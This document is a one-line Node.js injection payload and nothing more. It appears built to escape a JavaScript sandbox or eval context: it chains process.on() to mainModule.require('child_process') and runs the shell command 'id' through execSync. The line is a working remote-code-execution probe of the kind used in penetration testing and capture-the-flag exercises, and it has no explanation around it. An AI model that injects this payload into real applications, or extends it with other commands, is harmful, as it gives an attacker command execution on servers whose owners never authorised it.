process.on('exit', () => {}).mainModule.require('child_process').execSync('id');
